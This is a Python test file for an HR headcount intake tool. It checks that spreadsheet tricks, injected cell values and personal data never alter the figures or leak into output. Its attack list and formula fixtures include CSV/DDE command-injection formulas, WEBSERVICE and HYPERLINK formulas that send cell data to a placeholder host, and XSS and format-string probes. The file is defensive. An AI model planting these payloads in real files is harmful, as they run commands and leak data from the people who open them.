"""Workbooks full of what spreadsheets may hold besides a list: nothing runs, nothing leaks, nobody is lost."""

import datetime as dt
import io
import json
import logging
import time

import openpyxl
import pytest
from openpyxl.chart import BarChart, Reference
from openpyxl.comments import Comment
from openpyxl.styles import PatternFill
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.table import Table

from factories.sheets import SIREN, SIRET, faults, figures, lines, skills_of, text, workbook
from vivier.intake import read
from vivier.intake.layout import as_json

ON = dt.date(2026, 1, 31)
TITLES = ["Matricule", "Nom", "Sexe", "Né(e) le", "Emploi", "Date d'entrée", "Contrat"]
ROWS = [
    ["SIRET", "000 100 115 00013"],
    TITLES,
    ["M-0077", "XANADU", "F", dt.date(1987, 2, 3), "Soudeuse", dt.date(2015, 9, 1), "CDI"],
    ["M-0078", "QUENTINOU", "H", dt.date(1979, 8, 8), "Tôlier", dt.date(2004, 3, 1), "CDD"],
]
EXPECTED = [
    f"{SIREN}: 2 p, 2 c, 2 etp, 0 th",
    "  inconnu 35_44 F CDI × 1",
    "  inconnu 45_54 H CDD × 1",
    f"  @{SIRET}: 2 p, 2 c, 2 etp, 0 th",
]


def hidden_rows_and_columns(_, page):
    page.row_dimensions[3].hidden = True
    page.column_dimensions["D"].hidden = True


def hidden_sheets(book, _):
    for state in ("hidden", "veryHidden"):
        other = book.create_sheet(state)
        other.sheet_state = state
        for row in ROWS[1:]:
            other.append([*row[:1], "AUTRE", *row[2:]])


def protected(book, page):
    page.protection.sheet = True
    page.protection.set_password("secret")
    book.security.lockStructure = True


def a_chart_and_a_chart_sheet(book, page):
    chart = BarChart()
    chart.add_data(Reference(page, min_col=1, min_row=3, max_row=4))
    page.add_chart(chart, "K2")
    book.create_chartsheet("Graphique", 0).add_chart(BarChart())


def names_links_comments_and_tables(book, page):
    book.defined_names["Effectif"] = DefinedName("Effectif", attr_text="Feuil1!$A$2:$G$4")
    book.defined_names["Ailleurs"] = DefinedName("Ailleurs", attr_text="'[autre.xlsx]Feuil1'!$A$1")
    page["B3"].comment = Comment("TOTAL ZANZIBARESQUE", "Auteur")
    page["B3"].hyperlink = "https://exemple.invalid/ZANZIBARESQUE"
    page.add_table(Table(displayName="Liste", ref="A2:G4"))


def two_hundred_columns(_, page):
    for column in range(8, 201):
        page.cell(2, column, f"Rubrique {column}")
        page.cell(3, column, column)


def twenty_thousand_formatted_empty_rows(_, page):
    fill = PatternFill("solid", fgColor="FFFFFF")
    for line in range(5, 20_005):
        page.cell(line, 1).fill = fill


def formulas(_, page):
    page["H2"], page["H3"] = "Date de sortie", "=TODAY()-5000"
    page["I2"], page["I3"] = "RQTH", "=cmd|' /C calc'!A0"
    page["J2"], page["J3"] = "ETP", '=WEBSERVICE("https://exemple.invalid/"&A3)'


def a_frozen_filtered_pane(_, page):
    page.freeze_panes = "C3"
    page.auto_filter.ref = "A2:G4"
    page.print_title_rows = "2:2"


SPOILERS = [hidden_rows_and_columns, hidden_sheets, protected, a_chart_and_a_chart_sheet, names_links_comments_and_tables,
            two_hundred_columns, twenty_thousand_formatted_empty_rows, formulas, a_frozen_filtered_pane]  # fmt: skip


@pytest.mark.parametrize("spoil", SPOILERS)
def test_what_a_workbook_holds_besides_changes_no_figure(read_bytes, spoil):
    book = openpyxl.load_workbook(workbook(ROWS))
    spoil(book, book.worksheets[0])
    stream = io.BytesIO()
    book.save(stream)
    found = read_bytes({"registre.xlsx": stream.getvalue()})
    assert figures(found) == EXPECTED
    assert faults(found) == []
    assert "ZANZIBARESQUE" not in str(found)


def test_a_workbook_of_charts_alone_is_left_out(read_bytes):
    book = openpyxl.Workbook()
    book.create_chartsheet("Graphique").add_chart(BarChart())
    stream = io.BytesIO()
    book.save(stream)
    found = read_bytes({"graphique.xlsx": stream.getvalue(), "registre.xlsx": workbook(ROWS).getvalue()})
    assert figures(found) == EXPECTED
    assert faults(found) == [("R09", 0, "")]


ATTACKS = ["=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1",
           '=HYPERLINK("http://exemple.invalid?x="&A1,"clic")', "<script>alert(1)</script>", "{0.__class__}", "%s%n", "x" * 40_000]  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda text: text[:12])
def test_an_attack_in_every_cell_counts_one_person_and_is_never_echoed(read_bytes, attack):
    titles = [*TITLES, "Date de sortie", "ETP", "Code PCS", "SIRET", "N° SS", "Observations"]
    quoted = '"' + attack.replace('"', '""') + '"'
    found = read_bytes({"a.csv": lines(";".join(titles), ";".join(["1", *[quoted] * (len(titles) - 1)]))})
    assert figures(found)[0] == "inconnu: 1 p, 1 c, 1 etp, 0 th"
    assert attack.strip() not in str(found)
    assert {"E04", "E05", "E07", "E08", "E09", "E10"} <= {fault[0] for fault in faults(found)}


# Privacy: every personal value typed in a file is looked for in everything that comes out.

PRIVATE = {
    "nom": "XANADURAND", "prenom": "QUENTINOU", "nir": "285032A00412371", "matricule": "ZMAT0077", "naissance": "03/02/1987",
    "adresse": "12 rue des Acacias", "iban": "FR7612345987650123456789014", "salaire": "98765,43", "nationalite": "kinoise",
    "mail": "q.xanadurand@exemple.invalid", "permis": "PERMIS99887", "note": "mi-temps thérapeutique de QUENTINOU",
}  # fmt: skip
PERSONAL_TITLES = ["Nom", "Prénom", "N° SS", "Matricule", "Né(e) le", "Adresse", "IBAN", "Salaire brut", "Nationalité", "E-mail",
                   "N° du titre de séjour", "Observations", "Emploi", "Entrée"]  # fmt: skip
SOUND = [*PRIVATE.values(), "Soudeuse", "01/09/2015"]
# Each value in a column where it does not belong: the worst case for messages.
SHIFTED = [SOUND[-(rank % 12) - 3 :] + SOUND[: -(rank % 12) - 3] for rank in range(12)]
MATRIX = [["Nom", "Matricule", "MIG", "TIG"], ["XANADURAND QUENTINOU", "ZMAT0077", 3, 2], ["PETIT", "9", "XANADURAND", 1], ["BLANC", "8", 1, 1],
          ["GRIS", "7", 1, 1]]  # fmt: skip
PERSONAL_FILES = {
    "liste.csv": lambda: text([PERSONAL_TITLES, SOUND, SOUND, *SHIFTED]).getvalue(),
    "liste.xlsx": lambda: workbook([PERSONAL_TITLES, SOUND, SOUND, *SHIFTED]).getvalue(),
    "sans titres.csv": lambda: text([SOUND, SOUND]).getvalue(),
    "section.xlsx": lambda: workbook([[f"Service de {PRIVATE['nom']}"], PERSONAL_TITLES, [PRIVATE["nom"]], SOUND]).getvalue(),
    "matrice.xlsx": lambda: workbook((PRIVATE["nom"], MATRIX)).getvalue(),
    "tableau.csv": lambda: text([["CSP", "- de 25", "25-34"], ["Ouvriers", "3", "XANADURAND"], ["QUENTINOU", "1", "2"]]).getvalue(),
}  # fmt: skip


@pytest.mark.parametrize("name", PERSONAL_FILES)
def test_no_personal_value_typed_in_a_file_comes_out(tmp_path, caplog, name):
    content = PERSONAL_FILES[name]()
    (tmp_path / name).write_bytes(content)
    with caplog.at_level(logging.DEBUG):
        headcount = read([tmp_path / name], on=ON)
    said = json.dumps(as_json(headcount), ensure_ascii=False) + repr(headcount) + caplog.text
    assert headcount.anomalies  # something was said that could have quoted them
    words = {word for value in PRIVATE.values() for word in (value, *value.split()) if len(word) > 5}
    assert [word for word in sorted(words) if word.casefold() in said.casefold()] == []


# Size


def test_a_long_list_is_read_in_reasonable_time(read_bytes):
    row = "{0};NOM{0};F;03/02/1987;Soudeuse;01/09/2015;CDI"
    content = lines(";".join(TITLES), *(row.format(rank) for rank in range(10_000)))
    start = time.process_time()
    found = read_bytes({"a.csv": content})
    assert figures(found)[0] == "inconnu: 10000 p, 10000 c, 10000 etp, 0 th"
    assert time.process_time() - start < 6  # 1 s on the machine this was written on


def test_two_matrices_of_one_company_in_two_files_add_up(read_bytes):
    one = workbook([["SIREN 000100115"], ["Nom", "MIG", "TIG"], ["A", 3, 1], ["B", 2, None]]).getvalue()
    two = workbook([["SIREN 000100115"], ["Nom", "MIG", "Laser"], ["C", 3, 1], ["Requis", 2, 2]]).getvalue()
    found = read_bytes({"un.xlsx": one, "deux.xlsx": two})
    assert skills_of(found) == {
        "MIG": (2, 0, 0, 1, 2, 0, 0),
        "TIG": (None, 0, 1, 0, 0, 0, 1),
        "Laser": (2, 0, 1, 0, 0, 0, 0),
    }
